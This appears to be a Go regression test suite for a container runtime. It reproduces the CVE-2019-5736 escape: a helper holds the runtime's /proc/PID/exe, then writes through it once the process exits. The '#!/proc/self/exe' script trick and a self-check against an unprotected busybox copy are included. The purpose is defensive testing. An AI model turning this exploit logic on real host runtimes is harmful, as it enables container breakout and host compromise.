package tests

import (
	"crypto/sha256"
	"debug/elf"
	"encoding/hex"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	specs "github.com/opencontainers/runtime-spec/specs-go"
	"golang.org/x/sys/unix"
)

// CVE-2019-5736 class: a process in the container gets hold of the runtime
// binary through /proc/PID/exe of a runtime process that runs in the
// container (the init waiting in `created`, an exec's init, or the runtime
// re-executed through a `#!/proc/self/exe` script), and writes to it once no
// runtime process executes it any more (before that, ETXTBSY protects it).
//
// The attacker is this test binary (static, no cgo), copied into the rootfs
// and run there in helper mode (see runHelper). The runtime under test is a
// private copy of the binary, so a successful attack damages only the copy.

const (
	helperOutEnv    = "HUSK_TESTS_OUT"    // directory for the helper's files
	helperTargetEnv = "HUSK_TESTS_TARGET" // pid whose exe the helper attacks
	pwned           = "PWNED"
)

// runHelper is main for the test binary when it runs inside a container.
func runHelper(mode string) int {
	out := os.Getenv(helperOutEnv)
	var report []string
	switch mode {
	case "exe-hold":
		report = attackHeld(out, os.Getenv(helperTargetEnv))
	case "exe-scan":
		report = attackScan(out)
	default:
		fmt.Fprintf(os.Stderr, "unknown helper mode %q\n", mode)
		return 2
	}
	if err := os.WriteFile(filepath.Join(out, "report"), []byte(strings.Join(report, "\n")+"\n"), 0o644); err != nil {
		return 1
	}
	return touchFile(filepath.Join(out, "done"))
}

func appendLine(path, line string) {
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND|os.O_CREATE, 0o644)
	if err == nil {
		fmt.Fprintln(f, line)
		f.Close()
	}
}

func touchFile(path string) int {
	if err := os.WriteFile(path, nil, 0o644); err != nil {
		return 1
	}
	return 0
}

// tryWrite opens path for appending and writes to it; a success is reported
// with the pwned marker.
func tryWrite(path string) string {
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		return fmt.Sprintf("open %s for writing: %v", path, err)
	}
	defer f.Close()
	if n, err := f.Write([]byte(pwned)); err != nil || n == 0 {
		return fmt.Sprintf("write %s: %v", path, err)
	}
	return pwned + " " + path
}

// holdExe opens /proc/PID/exe with O_PATH: the descriptor keeps the binary
// reachable after the process is gone. The container's own binaries
// (busybox, the attacker) are not the target and are not held.
func holdExe(pid string) (int, string) {
	fd, err := unix.Open("/proc/"+pid+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
	if err != nil {
		return -1, fmt.Sprintf("hold /proc/%s/exe: %v", pid, err)
	}
	link, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
	var st unix.Stat_t
	if unix.Fstat(fd, &st) == nil {
		for _, own := range []string{"/bin/busybox", "/proc/self/exe"} {
			if di, ok := statDevIno(own); ok && di == (devIno{st.Dev, st.Ino}) {
				unix.Close(fd)
				return -1, fmt.Sprintf("/proc/%s/exe is the container's %s", pid, own)
			}
		}
	}
	return fd, fmt.Sprintf("holding /proc/%s/exe -> %q", pid, link)
}

// attackHeld targets one runtime process: hold its exe at once, try writing
// directly, hold it again whenever the process re-executes (cmdline change:
// the #!/proc/self/exe entrypoint), then after the test says go (no runtime
// process runs any more) write through everything held.
func attackHeld(out, pid string) []string {
	fd, msg := holdExe(pid)
	report := []string{msg, tryWrite("/proc/" + pid + "/exe")}
	held := []int{fd}
	cmdline, _ := os.ReadFile("/proc/" + pid + "/cmdline")
	touchFile(filepath.Join(out, "ready"))
	for deadline := time.Now().Add(pollTimeout); time.Now().Before(deadline) && !exists(filepath.Join(out, "go")); {
		if c, err := os.ReadFile("/proc/" + pid + "/cmdline"); err == nil && len(c) > 0 && string(c) != string(cmdline) {
			cmdline = c
			fd, msg := holdExe(pid)
			report = append(report, fmt.Sprintf("re-exec %q: %s", c, msg))
			held = append(held, fd)
		}
		time.Sleep(100 * time.Microsecond) // leave the CPU to the runtime
	}
	return append(report, writeHeld(held)...)
}

func writeHeld(held []int) []string {
	var report []string
	for _, fd := range held {
		if fd >= 0 {
			report = append(report, tryWrite(fmt.Sprintf("/proc/self/fd/%d", fd)))
		}
	}
	return report
}

// attackScan runs as the container's init and tries to hold the exe of every
// other process that appears, as fast as it can, until the test says stop;
// then it writes through everything held. It reports every process it saw
// ("saw"), and adds a line to out/caught for each binary it holds.
func attackScan(out string) []string {
	tried := map[string]bool{}
	var held []int
	var report []string
	touchFile(filepath.Join(out, "ready"))
	for deadline := time.Now().Add(pollTimeout); time.Now().Before(deadline) && !exists(filepath.Join(out, "stop")); {
		entries, _ := os.ReadDir("/proc")
		for _, d := range entries {
			pid := d.Name()
			if _, err := strconv.Atoi(pid); err != nil || pid == "1" {
				continue
			}
			if !tried[pid] {
				report = append(report, "saw pid "+pid)
			}
			tried[pid] = true
			// Only a change of executable is worth a new try.
			link, _ := os.Readlink("/proc/" + pid + "/exe")
			cmdline, _ := os.ReadFile("/proc/" + pid + "/cmdline")
			key := pid + " " + link + " " + string(cmdline)
			if tried[key] {
				continue
			}
			tried[key] = true
			fd, msg := holdExe(pid)
			report = append(report, msg)
			if fd >= 0 {
				held = append(held, fd)
				report = append(report, tryWrite(fmt.Sprintf("/proc/self/fd/%d", fd)))
				appendLine(filepath.Join(out, "caught"), msg)
			}
		}
	}
	return append(report, writeHeld(held)...)
}

func sha256File(t *testing.T, path string) string {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	h := sha256.New()
	if _, err := io.Copy(h, f); err != nil {
		t.Fatal(err)
	}
	return hex.EncodeToString(h.Sum(nil))
}

func copyFile(t *testing.T, src, dst string, mode os.FileMode) {
	t.Helper()
	data, err := os.ReadFile(src)
	if err != nil {
		t.Fatal(err)
	}
	writeFile(t, dst, string(data), mode)
}

// exeAttack prepares a test whose runtime is a private copy of the binary
// under test, and a spec whose rootfs will get the attacker (see install).
type exeAttack struct {
	e        *env
	out      string // host side of /out
	origSum  string
	copySum  string
	attacker string // this test binary
}

func newExeAttack(t *testing.T) *exeAttack {
	e := newEnv(t)
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	if f, err := elf.Open(self); err != nil {
		t.Fatal(err)
	} else {
		for _, p := range f.Progs {
			if p.Type == elf.PT_INTERP {
				t.Fatal("the test binary is dynamically linked and cannot run in the busybox rootfs; keep cgo out of package tests")
			}
		}
		f.Close()
	}
	a := &exeAttack{e: e, out: e.hostDir(), origSum: sha256File(t, huskBin), attacker: self}
	e.bin = filepath.Join(e.mkdir("bin-"), filepath.Base(huskBin))
	copyFile(t, huskBin, e.bin, 0o755)
	a.copySum = sha256File(t, e.bin)
	return a
}

func (a *exeAttack) spec(args ...string) *specs.Spec {
	s := baseSpec(args...)
	s.Mounts = append(s.Mounts, bindMount(a.out, "/out"))
	return s
}

// install puts the attacker and a `#!/proc/self/exe` script into the rootfs.
func (a *exeAttack) install(c *container) {
	copyFile(a.e.t, a.attacker, filepath.Join(c.b.rootfs, "attacker"), 0o755)
	writeFile(a.e.t, filepath.Join(c.b.rootfs, "evil"), "#!/proc/self/exe\n", 0o755)
}

func helperEnvFlags(mode string, extra ...string) []string {
	flags := []string{"--env", helperEnv + "=" + mode, "--env", helperOutEnv + "=/out"}
	for _, x := range extra {
		flags = append(flags, "--env", x)
	}
	return flags
}

// verify waits for the attacker's report and checks that no write got
// through and both the copy and the original binary are unchanged.
func (a *exeAttack) verify(t *testing.T) string {
	t.Helper()
	waitFile(t, filepath.Join(a.out, "done"))
	report := readFile(t, filepath.Join(a.out, "report"))
	t.Logf("attacker report:\n%s", report)
	if strings.Contains(report, pwned) {
		t.Errorf("the attacker wrote to the runtime binary:\n%s", report)
	}
	if sum := sha256File(t, a.e.bin); sum != a.copySum {
		t.Errorf("the runtime binary changed: sha256 %s, was %s", sum, a.copySum)
	}
	if sum := sha256File(t, huskBin); sum != a.origSum {
		t.Errorf("%s changed: sha256 %s, was %s", huskBin, sum, a.origSum)
	}
	return report
}

// heldAttack creates a container from s, execs the attacker against the pid
// that target names, starts the container, waits until settled says no
// runtime process runs any more, lets the attacker write and verifies.
func (a *exeAttack) heldAttack(s *specs.Spec, target func(*container) string, settled func(*container)) {
	t := a.e.t
	t.Helper()
	c := a.e.newContainer(s)
	a.install(c)
	mustSucceed(t, c.husk("create"))
	flags := append([]string{"-d"}, helperEnvFlags("exe-hold", helperTargetEnv+"="+target(c))...)
	mustSucceed(t, c.execWith(cmdOpts{}, flags, "/attacker"))
	waitFile(t, filepath.Join(a.out, "ready"))
	c.start()
	settled(c)
	writeFile(t, filepath.Join(a.out, "go"), "", 0o644)
	a.verify(t)
	mustSucceed(t, c.delete("-f"))
	c.assertGone()
}

// The runtime's init, waiting in `created` as the container's pid 1, is
// visible to a process exec'd into the container.
func TestExeProtectionCreatedInit(t *testing.T) {
	a := newExeAttack(t)
	a.heldAttack(a.spec(sleeper...),
		func(*container) string { return "1" },
		func(c *container) { c.waitReady("ready") }) // pid 1 runs the user program
}

// The entrypoint is a `#!/proc/self/exe` script: at start the kernel runs the
// init's own executable again as the container process. Without a pid
// namespace the attacker outlives that process and writes after it exits.
func TestExeProtectionShebangEntrypoint(t *testing.T) {
	a := newExeAttack(t)
	s := a.spec("/evil")
	removeNamespace(s, specs.PIDNamespace)
	a.heldAttack(s,
		func(c *container) string { return strconv.Itoa(c.state().Pid) },
		func(c *container) { c.waitStatus(specs.StateStopped) })
}

// The classic: `exec ID /evil` where /evil is `#!/proc/self/exe` makes the
// runtime execute itself inside the container; the attacker (the container's
// init) grabs it from /proc and writes once exec has returned.
func TestExeProtectionShebangExec(t *testing.T) {
	a := newExeAttack(t)
	s := a.spec("/attacker")
	s.Process.Env = append(s.Process.Env, helperEnv+"=exe-scan", helperOutEnv+"=/out")
	c := a.e.newContainer(s)
	a.install(c)
	mustSucceed(t, c.husk("run", "-d"))
	waitFile(t, filepath.Join(a.out, "ready"))
	// Catching the short-lived runtime process is a race the attacker
	// usually wins at once; a few tries make it reliable. A runtime whose
	// processes cannot be held (non-dumpable) uses all the tries.
	for i := 0; i < 10 && !exists(filepath.Join(a.out, "caught")); i++ {
		c.exec("/evil")
	}
	writeFile(t, filepath.Join(a.out, "stop"), "", 0o644)
	if report := a.verify(t); !strings.Contains(report, "saw pid") {
		t.Error("the attacker never saw an exec'd process: the test proved nothing")
	}
	mustSucceed(t, c.delete("-f"))
	c.assertGone()
}

// The attacker's own check: against a binary with no protection (a busybox
// copy on a writable bind mount, run in the container) both attacks do
// write, so a runtime that passes the tests above really resisted them.
func TestExeAttackerSelfCheck(t *testing.T) {
	requireRoot(t)
	setup := func(t *testing.T, env []string, args ...string) (*exeAttack, *container, string) {
		a := newExeAttack(t)
		victims := a.e.hostDir()
		// Named after applets: busybox dispatches on argv[0].
		for _, name := range []string{"sh", "true"} {
			copyFile(t, "/bin/busybox", filepath.Join(victims, name), 0o755)
		}
		s := a.spec(args...)
		s.Process.Env = append(s.Process.Env, env...)
		s.Mounts = append(s.Mounts, bindMount(victims, "/v"))
		c := a.e.newContainer(s)
		a.install(c)
		mustSucceed(t, c.husk("run", "-d"))
		return a, c, victims
	}
	checkPwned := func(t *testing.T, a *exeAttack, victim string) {
		waitFile(t, filepath.Join(a.out, "done"))
		if report := readFile(t, filepath.Join(a.out, "report")); !strings.Contains(report, pwned) ||
			sha256File(t, victim) == sha256File(t, "/bin/busybox") {
			t.Errorf("the attack failed against an unprotected binary:\n%s", report)
		}
	}

	t.Run("hold", func(t *testing.T) {
		// A victim process that runs until the attacker holds its exe.
		a, c, victims := setup(t, nil, "sh", "-c", `/v/sh -c 'while [ ! -e /release ]; do usleep 10000; done' &
			echo $! > /out/pid.tmp; mv /out/pid.tmp /out/victim.pid; wait; touch /victim-done; exec sleep 300`)
		waitFile(t, filepath.Join(a.out, "victim.pid"))
		pid := strings.TrimSpace(readFile(t, filepath.Join(a.out, "victim.pid")))
		mustSucceed(t, c.execWith(cmdOpts{}, append([]string{"-d"}, helperEnvFlags("exe-hold", helperTargetEnv+"="+pid)...), "/attacker"))
		waitFile(t, filepath.Join(a.out, "ready"))
		writeFile(t, filepath.Join(c.b.rootfs, "release"), "", 0o644)
		c.waitReady("victim-done")
		writeFile(t, filepath.Join(a.out, "go"), "", 0o644)
		checkPwned(t, a, filepath.Join(victims, "sh"))
	})
	t.Run("scan", func(t *testing.T) {
		// A victim that lives about a millisecond.
		a, c, victims := setup(t, []string{helperEnv + "=exe-scan", helperOutEnv + "=/out"}, "/attacker")
		waitFile(t, filepath.Join(a.out, "ready"))
		// Other processes (the runtime's exec init) may be caught first.
		caught := filepath.Join(a.out, "caught")
		for i := 0; i < 10 && !strings.Contains(readIfExists(t, caught), "/v/true"); i++ {
			c.exec("/v/true")
		}
		writeFile(t, filepath.Join(a.out, "stop"), "", 0o644)
		checkPwned(t, a, filepath.Join(victims, "true"))
	})
}
